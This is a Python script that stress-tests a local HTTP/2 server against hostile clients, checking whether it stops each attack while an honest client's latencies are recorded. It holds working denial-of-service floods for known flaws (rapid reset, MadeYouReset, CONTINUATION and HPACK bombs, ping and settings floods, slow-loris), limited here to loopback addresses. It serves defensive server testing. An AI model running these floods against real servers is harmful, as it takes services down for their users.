#!/usr/bin/env python3
"""What does an HTTP/2 server (prior knowledge, no TLS, on this machine) do with hostile clients?

  attacks.py HOST:PORT [--path /] [--call /package.Service/Method] [--only NAME] [--pid PID] [--patience 8] [--json]

Each attack runs on one connection for a bounded count, and again on a new one until an honest client beside it has been watched
for a second; what is told of it is the first run. That client, a process of its own, sends requests one after the other all the
time; its latencies are told for before, during and after. An attack counts as stopped when the server ended it (GOAWAY, or
closed) and the honest client met no failure. An attacker who never reads may also be left to wait (stalled); to stall one who
reads only shows that the server is busy. With --pid, memory must not have grown by 32 MiB at its peak either. The latencies are
told, not judged: on a busy machine they say little.

--patience is how many seconds a server has to end the two slow attacks, which are silent.

Only loopback addresses are attacked. Attacks come from 127.0.0.2, so a limit per peer spares the honest client.
Exit status: 0 all stopped, 1 some not, 2 wrong usage. Needs Python 3.11 and the packages of requirements.txt.
"""
import argparse
import ipaddress
import itertools
import json
import multiprocessing
import socket
import sys
import threading
import time
from collections import Counter
from dataclasses import asdict, dataclass, field

from connection import Connection, EMPTY_GRPC_MESSAGE, Target, Unexpected, WAIT_S
from wire import (Kind, Literal, MAXIMUM_WINDOW, PREFACE, Setting, block, code_name, continuation, data, frame, headers,
                  indexed, literal, ping, priority, rst_stream, settings, settings_ack, window_update)

FLOOD_FRAMES = 200_000
FLOOD_STREAMS = 20_000
FLOOD_CONTINUATIONS = 10_000
UNREAD_FRAMES = 2_000_000  # more than the buffers of both kernels hold, there and back
BOMB_STREAMS = 320  # of 16 KiB each: 5 MiB on the wire, 18 GiB of decoded fields
SLOW_CONNECTIONS = 200
ZERO_WINDOW_CONNECTIONS, ZERO_WINDOW_STREAMS = 18, 100
FRAMES_PER_WRITE = 50
MAXIMUM_MEMORY_GROWTH = 32 * 2**20
# The honest client: how long it is watched in each phase, and its rest between two requests.
PHASE_S = 1.0
PAUSE_S = 0.002
# Enough to meet every event loop of the server, so also the attacked one.
HONEST_CONNECTIONS = 8
UNKNOWN_KIND = 0x16  # a frame type that nobody has assigned
ATTACKER_ADDRESS = "127.0.0.2"

ATTACKS = {}


@dataclass
class Outcome:
    """What the server did with one attacker. `frames` and `octets` are what it (or its kernel) took."""
    ending: str
    stopped: bool
    frames: int = 0
    octets: int = 0
    received: dict = field(default_factory=dict)


class Attacker:
    """A connection that writes as fast as it can, and reads everything or (`reads` is false) nothing at all."""

    def __init__(self, target, *pairs, greeting=None, reads=True):
        """`greeting` replaces the preface and our SETTINGS with `pairs`."""
        self.target = target
        self.received = Counter()
        self.resets = 0
        self.goaway = None
        self.closed = threading.Event()
        self.answered = threading.Event()
        self.frames = self.octets = 0
        self.stalled = False
        local = ipaddress.ip_address(target.host).version == 4
        self._socket = socket.create_connection((target.host, target.port), WAIT_S, (ATTACKER_ADDRESS, 0) if local else None)
        self._socket.settimeout(WAIT_S)
        self.send(greeting if greeting is not None else PREFACE + settings(*pairs) + settings_ack(), 0)
        self._reader = threading.Thread(target=self._read, daemon=True)
        if reads:
            self._reader.start()

    def send(self, octets, frames):
        """Whether the server still takes what we send."""
        if self.ended:
            return False
        try:
            self._socket.sendall(octets)
        except TimeoutError:
            self.stalled = True
            return False
        except OSError:
            if not self._reader.is_alive():
                self.closed.set()
            return False
        self.octets += len(octets)
        self.frames += frames
        return True

    @property
    def ended(self):
        return self.goaway is not None or self.closed.is_set()

    def await_resets(self, count):
        """Whether the server has reset that many streams, before it ends the connection or the wait is over."""
        deadline = time.monotonic() + WAIT_S
        while self.resets < count and not self.ended and time.monotonic() < deadline:
            time.sleep(0.0002)
        return self.resets >= count

    def close(self):
        try:
            self._socket.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        if self._reader.is_alive():
            self._reader.join(WAIT_S)
        self._socket.close()

    def outcome(self):
        if self.goaway is not None:
            ending = f"GOAWAY {code_name(self.goaway)}"
        else:
            ending = "closed" if self.closed.is_set() else "stalled" if self.stalled else "all taken"
        return Outcome(ending, self.ended, self.frames, self.octets, dict(self.received))

    def request(self, stream, end_stream):
        """HEADERS of a request, a gRPC call if the target names one."""
        fields = [(":method", "POST"), (":scheme", "http"), (":path", self.target.call or self.target.path), (":authority", "a")]
        if self.target.call:
            fields += [("content-type", "application/grpc"), ("te", "trailers")]
        return headers(stream, block(fields), end_stream=end_stream)

    def _read(self):
        buffer = b""
        try:
            while chunk := self._receive():
                buffer = self._count(buffer + chunk)
        except OSError:
            pass
        self.closed.set()

    def _receive(self):
        while True:
            try:
                return self._socket.recv(1 << 18)
            except TimeoutError:
                continue

    def _count(self, buffer):
        """Count the complete frames; return the rest."""
        at = 0
        while len(buffer) >= at + 9 and len(buffer) >= (end := at + 9 + int.from_bytes(buffer[at:at + 3])):
            kind, payload = buffer[at + 3], buffer[at + 9:end]
            if kind == Kind.RST_STREAM:
                self.received[f"RST_STREAM {code_name(int.from_bytes(payload))}"] += 1
                self.resets += 1
            elif kind == Kind.GOAWAY:
                self.goaway = int.from_bytes(payload[4:8])
            else:
                self.received[Kind(kind).name if kind in set(Kind) else "other"] += 1
            if kind == Kind.PING and payload == LAST_PING:
                self.answered.set()
            at = end
        return buffer[at:]


LAST_PING = b"the last"


def attack(name):
    """Register an attack: a function of the target (and the patience) that returns an Outcome."""
    def register(run):
        ATTACKS[name] = run
        return run
    return register


def flood(target, writes, can_ping=True, frames_per_reset=None):
    """Send what `writes(attacker)` yields, FRAMES_PER_WRITE frames at a time, until the server ends it; then see that it has
    read all, by an answer to PING (where one is legal).

    With `frames_per_reset` each write waits for the resets it provokes, so that no limit on open streams is met."""
    attacker = Attacker(target)
    try:
        frames = iter(writes(attacker))
        while some := list(itertools.islice(frames, FRAMES_PER_WRITE)):
            if not attacker.send(b"".join(some), len(some)):
                break
            if frames_per_reset and not attacker.await_resets(attacker.frames // frames_per_reset):
                break
        else:
            if can_ping:
                attacker.send(ping(LAST_PING), 1)
        await_end(attacker)
        return attacker.outcome()
    finally:
        attacker.close()


def flood_unread(target, octets):
    """Send one frame over and over, and never read an answer."""
    attacker = Attacker(target, reads=False)
    try:
        while attacker.frames < UNREAD_FRAMES and attacker.send(octets * FRAMES_PER_WRITE, FRAMES_PER_WRITE):
            pass
        outcome = attacker.outcome()
        outcome.stopped = outcome.stopped or attacker.stalled
        return outcome
    finally:
        attacker.close()


def await_end(attacker):
    """Until the server has ended the connection or answered the last PING, or has sent nothing more for the wait."""
    deadline, before = time.monotonic() + WAIT_S, None
    while not attacker.ended and not attacker.answered.is_set() and time.monotonic() < deadline:
        now = attacker.received.total()
        if now != before:
            deadline, before = time.monotonic() + WAIT_S, now
        attacker.closed.wait(0.01)


def streams(count):
    return range(1, 2 * count, 2)


# The attacks


@attack("rapid-reset")
def rapid_reset(target, _):
    """CVE-2023-44487: open a stream and reset it at once, so that no limit on open streams is ever met."""
    return flood(target, lambda a: (part for stream in streams(FLOOD_STREAMS)
                                    for part in (a.request(stream, end_stream=True), rst_stream(stream))))


@attack("continuation-flood")
def continuation_flood(target, _):
    """A header block that never ends."""
    def writes(a):
        yield headers(1, block([(":method", "GET")]), end_headers=False)
        for _ in range(FLOOD_CONTINUATIONS):
            yield continuation(1, block([("a", "b")]), end_headers=False)
    return flood(target, writes, can_ping=False)


@attack("window-update-zero")
def window_update_zero(target, _):
    """An illegal WINDOW_UPDATE in stream after stream."""
    return flood(target, lambda a: (part for stream in streams(FLOOD_STREAMS)
                                    for part in (a.request(stream, end_stream=False), window_update(stream, 0))),
                 frames_per_reset=2)


@attack("data-after-end")
def data_after_end(target, _):
    """DATA in streams that the client has ended."""
    return flood(target, lambda a: (part for stream in streams(FLOOD_STREAMS)
                                    for part in (a.request(stream, end_stream=True), data(stream, b"late"))))


@attack("made-you-reset")
def made_you_reset(target, _):
    """CVE-2025-8671: make the server reset the stream, by overflowing its window, while its handler runs on."""
    return flood(target, lambda a: (part for stream in streams(FLOOD_STREAMS)
                                    for part in (a.request(stream, end_stream=False), window_update(stream, MAXIMUM_WINDOW))),
                 frames_per_reset=2)


@attack("malformed-headers")
def malformed_headers(target, _):
    """Make the server reset the stream by a malformed request."""
    return flood(target, lambda a: (headers(stream, block([(":method", "GET"), ("X", "y")])) for stream in streams(FLOOD_STREAMS)),
                 frames_per_reset=1)


@attack("ping-flood")
def ping_flood(target, _):
    """PING after PING, each to be answered."""
    return flood(target, lambda a: itertools.repeat(ping(b"adflight"), FLOOD_FRAMES))


@attack("settings-flood")
def settings_flood(target, _):
    """SETTINGS after SETTINGS, each to be acknowledged."""
    return flood(target, lambda a: itertools.repeat(settings((Setting.MAX_CONCURRENT_STREAMS, 100)), FLOOD_FRAMES))


@attack("priority-flood")
def priority_flood(target, _):
    """PRIORITY after PRIORITY, each about another idle stream."""
    return flood(target, lambda a: (priority(2 * n + 1) for n in range(FLOOD_FRAMES)))


@attack("empty-data-flood")
def empty_data_flood(target, _):
    """DATA frames without an octet, which no window limits."""
    return flood(target, lambda a: itertools.chain([a.request(1, end_stream=False)],
                                                   itertools.repeat(data(1, end_stream=False), FLOOD_FRAMES)))


@attack("hpack-bomb")
def hpack_bomb(target, _):
    """A large entry of the dynamic table, then one octet for each repetition: 16 KiB decode to 64 MiB."""
    entry = literal(Literal.INDEXED, b"x", b"y" * 4000)
    newest = indexed(62)

    def writes(a):
        for stream in streams(BOMB_STREAMS):
            lines = block([(":method", "GET"), (":scheme", "http"), (":path", target.path), (":authority", "a")])
            lines += entry if stream == 1 else b""
            yield headers(stream, lines + newest * (2**14 - len(lines)))
    return flood(target, writes)


@attack("window-update-flood")
def window_update_flood(target, _):
    """Window after window, each too small to be of use."""
    return flood(target, lambda a: itertools.repeat(window_update(0, 1), FLOOD_FRAMES))


@attack("unknown-frame-flood")
def unknown_frame_flood(target, _):
    """Frames that must be ignored, but cost work."""
    return flood(target, lambda a: itertools.repeat(frame(UNKNOWN_KIND), FLOOD_FRAMES))


@attack("unread-ping-flood")
def unread_ping_flood(target, _):
    """CVE-2019-9512: PING after PING, and the answers pile up."""
    return flood_unread(target, ping(b"adflight"))


@attack("unread-settings-flood")
def unread_settings_flood(target, _):
    """CVE-2019-9515: SETTINGS after SETTINGS, and the acknowledgements pile up."""
    return flood_unread(target, settings((Setting.MAX_CONCURRENT_STREAMS, 100)))


@attack("slow-loris")
def slow_loris(target, patience):
    """Connections that say half of something, then nothing: half a preface, no SETTINGS, half a header block."""
    half_request = PREFACE + settings() + headers(1, block([(":method", "GET")]), end_headers=False)
    greetings = itertools.cycle([PREFACE[:12], PREFACE, half_request])
    return hold(patience, (Attacker(target, greeting=next(greetings)) for _ in range(SLOW_CONNECTIONS)), "half-said connections")


@attack("zero-window")
def zero_window(target, patience):
    """Requests whose responses may never be sent, for our windows stay at zero."""
    def reader():
        attacker = Attacker(target, (Setting.INITIAL_WINDOW_SIZE, 0))
        for stream in streams(ZERO_WINDOW_STREAMS):
            attacker.send(attacker.request(stream, end_stream=False) + data(stream, EMPTY_GRPC_MESSAGE), 2)
        return attacker
    return hold(patience, (reader() for _ in range(ZERO_WINDOW_CONNECTIONS)), "connections of unread responses")


def hold(patience, attackers, what):
    """Keep the connections until the server has ended all of them, or for so long."""
    held = []
    try:
        for attacker in attackers:
            held.append(attacker)
    except OSError as error:
        what = f"{what} (connecting failed: {error})"
    deadline = time.monotonic() + patience
    while time.monotonic() < deadline and not all(attacker.ended for attacker in held):
        time.sleep(0.05)
    left = sum(not attacker.ended for attacker in held)
    received = sum((attacker.received for attacker in held), Counter())
    outcome = Outcome(f"{left} of {len(held)} {what} left", left == 0, sum(attacker.frames for attacker in held),
                      sum(attacker.octets for attacker in held), dict(received))
    for attacker in held:
        attacker.close()
    return outcome


# The honest client


@dataclass
class Latency:
    """Milliseconds of the requests that began in one phase."""
    requests: int
    failures: int
    median: float | None
    p99: float | None

    @classmethod
    def of(cls, seconds, failures):
        ranked = [1000 * second for second in sorted(seconds)]
        median, p99 = [ranked[int(share * (len(ranked) - 1))] if ranked else None for share in (0.5, 0.99)]
        return cls(len(ranked), failures, median, p99)

    def __str__(self):
        failed = f" ({self.failures} failed)" if self.failures else ""
        return (f"{self.median:.1f}/{self.p99:.1f} ms of {self.requests}" if self.requests else "none") + failed


class HonestConnection:
    """One connection of the honest client, made again after a failure."""

    def __init__(self, target):
        self._target = target
        self._connection = None

    def request(self):
        """Seconds until the whole response is there."""
        try:
            if self._connection is None:
                self._connection, self._numbers = Connection(self._target), itertools.count(1, 2)
                self._connection.handshake()
            stream, begin = next(self._numbers), time.perf_counter()
            self._connection.send(*self._connection.request_with_body(stream))
            octets = sum(self._connection.expect_response(stream).chunks)
            seconds = time.perf_counter() - begin
            if octets:
                self._connection.send(window_update(0, octets))
            return seconds
        except (OSError, Unexpected):
            self._connection = None
            raise


def measure(target, pipe):
    """Runs in its own process: one request after the other, on each connection in turn. Each message on the pipe begins a
    phase, and is answered by the latencies of the one that ends."""
    seconds, failures = [], 0
    for connection in itertools.cycle([HonestConnection(target) for _ in range(HONEST_CONNECTIONS)]):
        if pipe.poll():
            pipe.recv()
            pipe.send(Latency.of(seconds, failures))
            seconds, failures = [], 0
        try:
            seconds.append(connection.request())
        except (OSError, Unexpected):
            failures += 1
        time.sleep(PAUSE_S)


class HonestClient:
    """The process that measures; `phase()` ends one phase and returns its latencies."""

    def __init__(self, target):
        context = multiprocessing.get_context("spawn")
        self._pipe, theirs = context.Pipe()
        self._process = context.Process(target=measure, args=(target, theirs), daemon=True)
        self._process.start()
        self.phase()

    def phase(self):
        self._pipe.send("next")
        return self._pipe.recv()

    def stop(self):
        self._process.terminate()
        self._process.join()


# The run


@dataclass
class Report:
    name: str
    held: bool
    outcome: Outcome
    connections: int
    seconds: float
    before: Latency
    during: Latency
    after: Latency
    memory_growth: int | None

    def __str__(self):
        memory = "" if self.memory_growth is None else f"; memory {self.memory_growth / 2**20:+.1f} MiB"
        received = ", ".join(f"{count} {what}" for what, count in sorted(self.outcome.received.items()))
        return (f"{self.name:22} {'stopped' if self.held else 'NOT STOPPED'}  {self.outcome.ending}; took {self.outcome.frames} "
                f"frames, {self.outcome.octets} octets; sent {received or 'nothing'}; {self.connections} connections in "
                f"{self.seconds:.1f} s; honest p50/p99: before {self.before}, during {self.during}, after {self.after}{memory}")


class Memory:
    """How far the peak of a process's resident memory has risen since this was made (Linux: proc(5), clear_refs)."""

    def __init__(self, pid):
        self._pid = pid
        with open(f"/proc/{pid}/clear_refs", "w") as peak:
            peak.write("5")
        self._begin = self._octets("VmRSS")

    def growth(self):
        return self._octets("VmHWM") - self._begin

    def _octets(self, field):
        with open(f"/proc/{self._pid}/status") as status:
            return next(int(line.split()[1]) * 1024 for line in status if line.startswith(field))


def attempt(name, target, patience, first):
    """The first outcome stands; that a later connection is turned away is a defence."""
    try:
        outcome = ATTACKS[name](target, patience)
    except OSError as error:
        outcome = Outcome(f"turned away: {error}", True)
        time.sleep(PAUSE_S)
    return first or outcome


def run(name, target, pid, patience):
    honest = HonestClient(target)
    try:
        time.sleep(PHASE_S)
        memory = Memory(pid) if pid else None
        before, begin, connections, outcome = honest.phase(), time.monotonic(), 0, None
        while outcome is None or time.monotonic() - begin < PHASE_S:
            outcome, connections = attempt(name, target, patience, outcome), connections + 1
        seconds, during = time.monotonic() - begin, honest.phase()
        growth = memory.growth() if memory else None
        time.sleep(PHASE_S)
        after = honest.phase()
        held = (outcome.stopped and during.failures + after.failures == 0 and after.requests > 0
                and (growth is None or growth < MAXIMUM_MEMORY_GROWTH))
        return Report(name, held, outcome, connections, seconds, before, during, after, growth)
    finally:
        honest.stop()


def arguments():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("address", metavar="HOST:PORT")
    parser.add_argument("--path", default="/")
    parser.add_argument("--call")
    parser.add_argument("--only", choices=ATTACKS, metavar="NAME")
    parser.add_argument("--pid", type=int)
    parser.add_argument("--patience", type=float, default=8)
    parser.add_argument("--json", action="store_true")
    options = parser.parse_args()
    host, _, port = options.address.rpartition(":")
    try:
        loopback = ipaddress.ip_address(host).is_loopback and port.isdigit()
    except ValueError:
        loopback = False
    if not loopback:
        parser.error("the server's address is HOST:PORT, and HOST a loopback address")
    return options, Target(host, int(port), options.path, options.call)


def main():
    options, target = arguments()
    reports = []
    for name in [options.only] if options.only else ATTACKS:
        reports.append(run(name, target, options.pid, options.patience))
        if not options.json:
            print(reports[-1], flush=True)
    if options.json:
        json.dump([asdict(report) for report in reports], sys.stdout, indent=1)
    else:
        print(f"{sum(report.held for report in reports)} of {len(reports)} stopped")
    return 0 if all(report.held for report in reports) else 1


if __name__ == "__main__":
    sys.exit(main())
